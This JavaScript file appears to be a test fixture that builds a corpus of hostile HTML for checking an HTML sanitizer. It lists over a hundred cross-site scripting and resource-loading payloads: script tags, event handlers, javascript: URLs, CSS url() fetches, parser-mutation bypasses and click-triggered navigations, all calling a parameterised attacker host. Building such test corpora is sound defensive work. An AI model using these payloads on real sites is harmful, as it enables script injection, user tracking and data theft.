/*
 * Hostile HTML. Each row: name, html, and whether a bare Chromium calls the
 * foreign host or runs script on it unasked (checked first: a corpus that does
 * not bite proves nothing). E: the foreign host; J: a script that calls it.
 */
export function corpus(evil) {
  const rows = [];
  let name;
  const E = path => `${evil}/n/${name}-${path}`;
  const J = () => `fetch('${E('js')}',{mode:'no-cors'})`;
  const ent = s => s.replace(/[^a-z0-9]/gi, c => `&#${c.charCodeAt(0)};`);
  const add = (n, make, bites = true) => { name = n; rows.push({ name: n, html: make(), bites }); };

  // Scripts and handlers.
  add('script', () => `<script>${J()}</script>`);
  add('script-src', () => `<script src="${E('x.js')}"></script>`);
  add('script-case', () => `<ScRiPt>${J()}</sCrIpT >`);
  add('script-slash', () => `<script/x>${J()}</script>`);
  add('script-module', () => `<script type=module>import '${E('x.js')}'</script>`);
  add('script-split', () => `<scr<script>ipt>${J()}</scr</script>ipt>`, false);
  add('script-top', () => `<script>top.location='${E('top')}'</script>`, false);
  add('script-speculation', () => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${E('spec')}"]}]}</script>`, false);
  add('img-onerror', () => `<img src=x: onerror="${J()}">`);
  add('img-slash', () => `<img/src="x:"/onerror="${ent(J())}">`);
  add('img-quotes', () => '<img src="x:`" onerror="' + J() + '">');
  add('svg-onload', () => `<svg onload="${J()}"></svg>`);
  add('svg-script', () => `<svg><script>${J()}</script></svg>`);
  add('svg-script-entity', () => `<svg><script>${ent(J())}</script></svg>`);
  add('svg-animate', () => `<svg><animate onbegin="${J()}" attributeName=x dur=1s></svg>`);
  add('body-onload', () => `<body onload="${J()}">`);
  add('details', () => `<details open ontoggle="${J()}">x</details>`);
  add('autofocus', () => `<input autofocus onfocus="${J()}">`, false);
  add('video-onerror', () => `<video><source onerror="${J()}"></video>`);
  add('audio-onerror', () => `<audio src="x:" onerror="${J()}"></audio>`);
  add('marquee', () => `<marquee onstart="${J()}">x</marquee>`, false);
  add('style-animation', () => `<style>@keyframes a{}</style><p style="animation-name:a" onanimationstart="${J()}">x</p>`);
  add('unclosed', () => `<img src=x: onerror="${J()}" `, false);
  add('null-ish', () => `<img src=x:\u000b\u000conerror="${J()}">`, false);
  add('utf7', () => `<meta charset=utf-7>+ADw-script+AD4-${J()}+ADw-/script+AD4-`, false);

  // Frames, objects, forms, navigation.
  add('iframe', () => `<iframe src="${E('frame')}"></iframe>`);
  add('iframe-js', () => `<iframe src="javascript:${J()}"></iframe>`);
  add('iframe-srcdoc', () => `<iframe srcdoc="<script>${J()}</script>"></iframe>`);
  add('iframe-sandbox', () => `<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>${J()}</script>"></iframe>`);
  add('iframe-data', () => `<iframe src="data:text/html,<script>${J()}</script>"></iframe>`);
  add('frameset', () => `<frameset><frame src="${E('frame')}"></frameset>`, false);
  add('object', () => `<object data="${E('object')}"></object>`);
  add('object-data', () => `<object data="data:text/html,<script>${J()}</script>"></object>`, false);
  add('embed', () => `<embed src="${E('embed')}">`);
  add('embed-js', () => `<embed src="javascript:${J()}">`, false);
  add('applet', () => `<applet code="${E('applet')}"></applet>`, false);
  add('meta-refresh', () => `<meta http-equiv=refresh content="0;url=${E('refresh')}">`);
  add('meta-refresh-js', () => `<meta http-equiv=refresh content="0;url=javascript:${J()}">`, false);
  add('meta-csp', () => `<meta http-equiv=Content-Security-Policy content="default-src *"><img src="${E('a.png')}">`);
  add('base', () => `<base href="${E('base/')}"><img src="a.png">`);
  add('form-autofocus', () => `<form action="${E('form')}"><input autofocus name=a></form>`, false);

  // Fetches without script.
  add('img', () => `<img src="${E('a.png')}">`);
  add('img-srcset', () => `<img srcset="${E('a.png')} 1x">`);
  add('picture', () => `<picture><source srcset="${E('a.png')}"><img src=x:></picture>`);
  add('img-lowsrc', () => `<img lowsrc="${E('a.png')}" dynsrc="${E('b.png')}">`, false);
  add('image-tag', () => `<image src="${E('a.png')}">`);
  add('input-image', () => `<input type=image src="${E('a.png')}">`);
  add('background', () => `<table background="${E('a.png')}"><tr><td>x</table>`);
  add('body-background', () => `<body background="${E('a.png')}">`);
  add('video', () => `<video src="${E('v')}" poster="${E('a.png')}" autoplay></video>`);
  add('audio', () => `<audio src="${E('s')}" autoplay></audio>`);
  add('track', () => `<video src="${E('v')}"><track default src="${E('t')}"></video>`);
  add('link-css', () => `<link rel=stylesheet href="${E('a.css')}">`);
  add('link-icon', () => `<link rel=icon href="${E('a.png')}">`, false);
  add('link-preload', () => `<link rel=preload as=image href="${E('a.png')}">`);
  add('link-modulepreload', () => `<link rel=modulepreload href="${E('x.js')}">`);
  add('link-prefetch', () => `<link rel=prefetch href="${E('p')}">`);
  add('link-prerender', () => `<link rel=prerender href="${E('p')}">`, false);
  add('link-preconnect', () => `<link rel=preconnect href="${evil}">`, false);
  add('link-dns', () => `<link rel=dns-prefetch href="${evil}">`, false);
  add('link-manifest', () => `<link rel=manifest href="${E('m')}">`, false);
  add('style-import', () => `<style>@import url(${E('a.css')});</style>`);
  add('style-background', () => `<style>p{background:url(${E('a.png')})}</style>`);
  add('style-font', () => `<style>@font-face{font-family:f;src:url(${E('f')})}p{font-family:f}</style>`);
  add('style-escape', () => `<style>p{background:\\75\\72\\6c(${E('a.png')})}</style>`);
  add('attr-background', () => `<p style="background:url(${E('a.png')})">x</p>`);
  add('attr-escape', () => `<p style="background:u\\72l('${E('a.png')}')">x</p>`);
  add('attr-comment', () => `<p style="/**/background/**/:/**/url(${E('a.png')})">x</p>`);
  add('attr-image-set', () => `<p style="background:image-set('${E('a.png')}' 1x)">x</p>`);
  add('attr-list', () => `<ul><li style="list-style-image:url(${E('a.png')})">x</ul>`);
  add('attr-cursor', () => `<p style="cursor:url(${E('a.png')}),auto">x</p>`, false);
  add('attr-content', () => `<style>p:after{content:url(${E('a.png')})}</style><p>x</p>`);
  add('attr-border', () => `<p style="border:1px solid;border-image:url(${E('a.png')}) 1">x</p>`);
  add('attr-mask', () => `<p style="mask-image:url(${E('a.png')})">x</p>`);
  add('attr-filter', () => `<p style="filter:url(${E('a.svg')}#f)">x</p>`, false);
  add('attr-var', () => `<p style="--a:url(${E('a.png')});background:var(--a)">x</p>`);
  add('attr-expression', () => `<p style="width:expression(${J()});behavior:url(${E('a')});-moz-binding:url(${E('b')})">x</p>`, false);
  add('svg-image', () => `<svg><image href="${E('a.png')}"/></svg>`);
  add('svg-xlink', () => `<svg><image xlink:href="${E('a.png')}"/></svg>`);
  add('svg-use', () => `<svg><use href="${E('a.svg')}#x"/></svg>`, false);
  add('svg-feimage', () => `<svg width=9 height=9><filter id=f><feImage href="${E('a.png')}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`);
  add('svg-style', () => `<svg><style>@import url(${E('a.css')})</style></svg>`);
  add('math-link', () => `<math href="javascript:${J()}">x</math>`, false);
  add('protocol-relative', () => `<img src="${E('a.png').replace('https:', '')}">`);
  add('backslash', () => `<img src="${E('a.png').replace('//', '\\\\')}">`);

  // Mutation: what one parser calls text, another calls a tag.
  add('m-noscript', () => `<noscript><p title="</noscript><img src=x: onerror=&quot;${J()}&quot;>"></noscript>`, false);
  add('m-style-attr', () => `<svg></p><style><a id="</style><img src=x: onerror=${J().replace(/'/g, '&#39;')}>">`);
  add('m-mglyph', () => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="${J()}">`, false);
  add('m-mtext-table', () => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=&quot;${J()}&quot;&gt;">`, false);
  add('m-annotation', () => `<math><annotation-xml encoding="text/html"><style></math><img src=x: onerror="${J()}"></style></annotation-xml></math>`, false);
  add('m-foreign', () => `<svg><foreignObject><style></svg><img src=x: onerror="${J()}"></style></foreignObject></svg>`, false);
  add('m-desc', () => `<svg><desc><style></desc></svg><img src=x: onerror="${J()}">`, false);
  add('m-title', () => `<title><a title="</title><img src=x: onerror=${J()}>"></title>`);
  add('m-textarea', () => `<textarea><a title="</textarea><img src=x: onerror=${J()}>"></textarea>`);
  add('m-xmp', () => `<xmp><a title="</xmp><img src=x: onerror=${J()}>"></xmp>`);
  add('m-noembed', () => `<noembed><a title="</noembed><img src=x: onerror=${J()}>"></noembed>`);
  add('m-iframe', () => `<iframe><a title="</iframe><img src=x: onerror=${J()}>"></iframe>`);
  add('m-plaintext', () => `<plaintext><script>${J()}</script>`, false);
  add('m-comment', () => `<!--><img src=x: onerror="${J()}">-->`);
  add('m-comment-bang', () => `<!-- --!><img src=x: onerror="${J()}"> -->`);
  add('m-comment-dash', () => `<!---><img src=x: onerror="${J()}">--->`);
  add('m-cdata', () => `<svg><![CDATA[><img src=x: onerror="${J()}">]]></svg>`, false);
  add('m-pi', () => `<?php ><img src=x: onerror="${J()}"> ?>`);
  add('m-conditional', () => `<!--[if gte mso 9]><img src=x: onerror="${J()}"><![endif]--><![if !mso]><img src="${E('a.png')}"><![endif]>`);
  add('m-template', () => `<template><style></template><img src=x: onerror="${J()}"></style>`, false);
  add('m-select', () => `<select><option><style></select><img src=x: onerror="${J()}"></style>`, false);
  add('m-table', () => `<table><style></table><img src=x: onerror="${J()}"></style><td><script>${J()}</script></table>`);
  add('m-nest', () => `${'<div>'.repeat(600)}<img src=x: onerror="${J()}">${'</div>'.repeat(600)}`);
  add('m-attr', () => `<a title='"><img src=x: onerror=${ent(J())}>'>x</a><img alt="\`><script>${J()}</script>">`, false);
  add('m-bom', () => `\ufeff<\u0000script>`.replace('\u0000', '') + `${J()}</script>`);
  add('m-half', () => `<p><b><i><table><b><p><a href="x"><table><script>${J()}</script>`);
  return rows;
}

/* What bites only when it is clicked: name, html whose #go is clicked. */
export function clicks(evil) {
  const E = n => `${evil}/n/click-${n}`;
  const js = n => `fetch('${E(n)}',{mode:'no-cors'});top.location='${E(n)}'`;
  return [
    { name: 'js', html: `<a id=go href="javascript:${js('js')}">go</a>` },
    { name: 'js-tab', html: `<a id=go href="java\tscript:${js('tab')}">go</a>` },
    { name: 'js-entity', html: `<a id=go href="&#106;avascript&colon;${js('entity')}">go</a>` },
    { name: 'js-control', html: `<a id=go href="\u0001javascript:${js('control')}">go</a>` },
    { name: 'js-onclick', html: `<a id=go onclick="${js('onclick')}">go</a>` },
    { name: 'js-data', html: `<a id=go target=_top href="data:text/html,<script>${js('data')}</script>">go</a>` },
    { name: 'js-svg', html: `<svg><a xlink:href="javascript:${js('svg')}"><text id=go y=20>go</text></a></svg>` },
    { name: 'top', html: `<a id=go target=_top href="${E('top')}">go</a>` },
    { name: 'parent', html: `<a id=go target=_parent href="${E('parent')}">go</a>` },
    { name: 'form', html: `<form action="${E('form')}" method=post><button id=go>go</button></form>` },
    { name: 'form-top', html: `<form action="${E('form-top')}" target=_top><button id=go>go</button></form>` },
    { name: 'form-blank', html: `<form action="${E('form-blank')}" target=_blank><button id=go>go</button></form>` },
    { name: 'formaction', html: `<form><button id=go formaction="javascript:${js('formaction')}">go</button></form>` },
    { name: 'ping', html: `<a id=go href="#x" ping="${E('ping')}">go</a>` },
    { name: 'label', html: `<label id=go for=s>go</label><form action="${E('label')}"><input type=submit id=s></form>` },
  ];
}
